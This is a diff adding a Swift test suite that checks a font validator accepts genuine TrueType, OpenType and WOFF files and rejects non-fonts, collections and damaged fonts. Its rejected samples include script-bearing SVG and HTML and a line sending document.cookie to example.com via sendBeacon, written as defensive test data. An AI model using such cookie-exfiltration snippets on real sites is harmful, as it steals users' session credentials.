@@ -1,0 +1,124 @@
+import Foundation
+import Testing
+
+@testable import FontProcessing
+
+/// A file is a font by its structure: real fonts pass whatever their name; pages, scripts,
+/// images, collections and cut or damaged fonts are refused with what they are.
+struct FontFileStructureTests {
+    @Test(arguments: [DebianFonts.charis, DebianFonts.abyssinica, DebianFonts.scheherazade, DebianFonts.padauk])
+    func aTrueTypeFontIsOne(_ font: DebianFonts.Font) throws {
+        #expect(try FontFileStructure.format(of: try font.bytes()) == .trueType)
+    }
+
+    @Test func anOpenTypeFontWithCFFOutlinesIsOne() throws {
+        #expect(try FontFileStructure.format(of: try DebianFonts.c059.bytes()) == .openType)
+    }
+
+    @Test func aWOFFFontIsOneByItsHeader() throws {
+        let woff = WOFFWrapping.wrap(try DebianFonts.charis.bytes())
+        #expect(try FontFileStructure.format(of: woff) == .woff)
+    }
+
+    @Test(arguments: [
+        (
+            "an SVG font with a script",
+            #"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><defs><font id="f"/></defs></svg>"#, "an SVG document"
+        ),
+        ("a web page", "<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>", "a web page"),
+        ("a script", "document.cookie = 'x';\nnavigator.sendBeacon('https://example.com', document.cookie);\n", "a text file"),
+        ("a script in UTF-8", "// Привет\nconsole.log('ሰላም');\n", "a text file"),
+    ])
+    func textIsNoFont(_ what: String, _ text: String, _ said: String) {
+        #expect(throws: FontStructureProblem.self, "\(what)") { try FontFileStructure.format(of: Array(text.utf8)) }
+        #expect(problem(Array(text.utf8))?.contains(said) == true, "\(what): \(problem(Array(text.utf8)) ?? "accepted")")
+    }
+
+    @Test func aPNGRenamedAsAFontIsNoFont() {
+        let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13] + Array("IHDR".utf8) + [UInt8](repeating: 1, count: 17)
+        #expect(problem(png) == "it is a PNG image")
+    }
+
+    @Test func aCollectionIsRefusedAsOne() throws {
+        // One font in a collection: 'ttcf', version 1.0, one font whose directory is at byte 16.
+        let font = try DebianFonts.charis.bytes()
+        let collection = Array("ttcf".utf8) + [0, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0, 16] + font
+        #expect(problem(collection)?.contains("font collection") == true, "\(problem(collection) ?? "accepted")")
+    }
+
+    @Test func aFontCutShortIsRefused() throws {
+        let font = try DebianFonts.charis.bytes()
+        let cut = Array(font.prefix(font.count / 2))
+        #expect(problem(cut)?.contains("lies outside the file") == true, "\(problem(cut) ?? "accepted")")
+        #expect(problem(Array(font.prefix(40)))?.contains("runs past the end of the file") == true)
+        #expect(problem(Array(font.prefix(6)))?.contains("ends inside its header") == true)
+    }
+
+    @Test func aTableRecordPointingPastTheEndIsRefused() throws {
+        var font = try DebianFonts.charis.bytes()
+        let record = try #require(recordOffset(of: "glyf", in: font))
+        // Its length, the record's last four bytes, made larger than the file.
+        font.replaceSubrange(record + 12..<record + 16, with: [0x7F, 0xFF, 0xFF, 0xFF])
+        #expect(problem(font)?.contains("its 'glyf' table") == true, "\(problem(font) ?? "accepted")")
+    }
+
+    @Test func aFontWithoutACharacterMapIsRefused() throws {
+        var font = try DebianFonts.charis.bytes()
+        let record = try #require(recordOffset(of: "cmap", in: font))
+        font.replaceSubrange(record..<record + 4, with: Array("cmaq".utf8))
+        #expect(problem(font)?.contains("lacks the 'cmap' table") == true, "\(problem(font) ?? "accepted")")
+    }
+
+    @Test func aWOFFWhoseLengthDisagreesWithTheFileIsRefused() throws {
+        let woff = WOFFWrapping.wrap(try DebianFonts.abyssinica.bytes())
+        #expect(problem(Array(woff.dropLast(4)))?.contains("its WOFF header says it is") == true)
+        #expect(problem(woff + [0, 0, 0, 0])?.contains("its WOFF header says it is") == true)
+    }
+
+    @Test func anEmptyFileIsNoFont() {
+        #expect(problem([]) == "the file is empty")
+    }
+
+    private func problem(_ bytes: [UInt8]) -> String? {
+        do {
+            _ = try FontFileStructure.format(of: bytes)
+            return nil
+        } catch {
+            return error.description
+        }
+    }
+
+    /// Where the directory record of `tag` starts in an sfnt.
+    private func recordOffset(of tag: String, in font: [UInt8]) -> Int? {
+        let count = Int(font[4]) << 8 | Int(font[5])
+        return (0..<count).map { 12 + 16 * $0 }.first { Array(font[$0..<$0 + 4]) == Array(tag.utf8) }
+    }
+}
+
+/// An sfnt wrapped as WOFF 1.0 with its tables stored as they are (a table whose compressed and
+/// original lengths are equal is not compressed): a WOFF file as the format allows, made
+/// without a compressor.
+enum WOFFWrapping {
+    static func wrap(_ sfnt: [UInt8]) -> [UInt8] {
+        func u16(_ value: Int) -> [UInt8] { [UInt8(truncatingIfNeeded: value >> 8), UInt8(truncatingIfNeeded: value)] }
+        func u32(_ value: Int) -> [UInt8] { u16(value >> 16) + u16(value & 0xFFFF) }
+        func read32(_ at: Int) -> Int { Int(sfnt[at]) << 24 | Int(sfnt[at + 1]) << 16 | Int(sfnt[at + 2]) << 8 | Int(sfnt[at + 3]) }
+        let count = Int(sfnt[4]) << 8 | Int(sfnt[5])
+        var directory: [UInt8] = []
+        var data: [UInt8] = []
+        var offset = 44 + 20 * count
+        for index in 0..<count {
+            let record = 12 + 16 * index
+            let (tableOffset, length) = (read32(record + 8), read32(record + 12))
+            directory += Array(sfnt[record..<record + 4]) + u32(offset) + u32(length) + u32(length) + Array(sfnt[record + 4..<record + 8])
+            let padded = Array(sfnt[tableOffset..<tableOffset + length]) + [UInt8](repeating: 0, count: (4 - length % 4) % 4)
+            data += padded
+            offset += padded.count
+        }
+        let total = 44 + directory.count + data.count
+        let header =
+            Array("wOFF".utf8) + Array(sfnt[0..<4]) + u32(total) + u16(count) + u16(0) + u32(sfnt.count) + u16(1) + u16(0)
+            + [UInt8](repeating: 0, count: 20)
+        return header + directory + data
+    }
+}
